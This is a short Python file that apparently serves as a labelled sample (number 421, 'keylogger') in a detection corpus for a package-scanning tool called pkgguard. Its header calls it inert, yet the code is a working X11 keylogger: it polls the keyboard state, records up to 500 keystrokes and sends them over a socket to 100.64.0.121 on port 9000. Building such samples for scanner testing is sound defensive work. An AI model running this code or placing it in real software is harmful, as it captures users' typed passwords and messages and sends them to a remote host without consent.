# pkgguard corpus 421 (keylogger), modelled on [stealer-profile]; inert, never run.
import socket
import time

from Xlib import display

d = display.Display()
seen = []
previous = d.query_keymap()
while len(seen) < 500:
    current = d.query_keymap()
    for byte, (a, b) in enumerate(zip(previous, current)):
        pressed = b & ~a
        for bit in range(8):
            if pressed & (1 << bit):
                seen.append(d.keycode_to_keysym(byte * 8 + bit, 0))
    previous = current
    time.sleep(0.01)
s = socket.create_connection(("100.64.0.121", 9000))
s.sendall(repr(seen).encode())
